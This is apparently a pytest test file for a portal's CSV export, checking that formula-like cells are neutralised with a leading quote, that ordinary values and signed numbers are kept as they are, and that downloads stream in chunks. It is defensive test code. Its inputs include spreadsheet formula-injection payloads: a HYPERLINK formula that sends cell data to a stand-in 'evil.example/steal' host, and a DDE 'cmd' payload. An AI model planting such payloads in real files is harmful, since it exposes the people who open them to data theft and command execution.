"""The one CSV writer: a cell that a spreadsheet would run as a formula is written as text."""

import csv
import io
from collections.abc import Iterator

import pytest

from portal.csvexport import csv_cell, csv_download, csv_lines, in_chunks


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("https://evil.example/steal?d="&B2&C2,"Open")',
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1)",
        "+1+1",
        "\t=1+1",
        "\r=1+1",
        "-",
        "+1 800 555 1212",  # spaced: not a plain number, so disarmed like any other text
    ],
)
def test_a_would_be_formula_gets_a_leading_quote(value: str) -> None:
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value", ["+18005551212", "-12.50", "93901", "0 Oak St", "Núñez-Ortiz", "2026-01-01", "", "'quoted"]
)
def test_plain_text_and_numbers_are_written_as_they_are(value: str) -> None:
    # A number with a sign is a number in every spreadsheet, never a formula: E.164 phones and
    # negative amounts stay usable.
    assert csv_cell(value) == value


def test_none_is_an_empty_cell_and_other_values_are_text() -> None:
    assert csv_cell(None) == ""
    assert csv_cell(-3) == "-3"


def test_every_cell_is_quoted_so_other_separators_stay_inside_it() -> None:
    lines = list(csv_lines(["name", "line2"], [["Ana", "Apt 4;=1+1\tx"], ["Bea", 'say "hi"']]))
    assert lines[0] == '"name","line2"\r\n'
    assert lines[1] == '"Ana","Apt 4;=1+1\tx"\r\n'
    assert list(csv.reader(io.StringIO("".join(lines)))) == [
        ["name", "line2"],
        ["Ana", "Apt 4;=1+1\tx"],
        ["Bea", 'say "hi"'],
    ]


def test_a_download_is_the_same_file_sent_in_pieces_of_many_rows() -> None:
    rows = [[f"Ana {n}", "93901"] for n in range(2_000)]
    response = csv_download(filename="x.csv", header=["name", "zip"], rows=rows)
    pieces = list(response)
    whole = "".join(csv_lines(["name", "zip"], rows)).encode()
    assert b"".join(pieces) == whole
    assert 1 < len(pieces) < 2_001 // 10, "dozens of rows a piece, not one"


def test_a_large_file_goes_out_before_its_last_row_is_read() -> None:
    read = 0

    def rows() -> Iterator[list[str]]:
        nonlocal read
        for n in range(100_000):
            read += 1
            yield [f"Ana {n}"]

    first = next(in_chunks(csv_lines(["name"], rows()), size=1_000))
    assert len(first) >= 1_000 and read < 200, "the first piece is sent as soon as it is full"
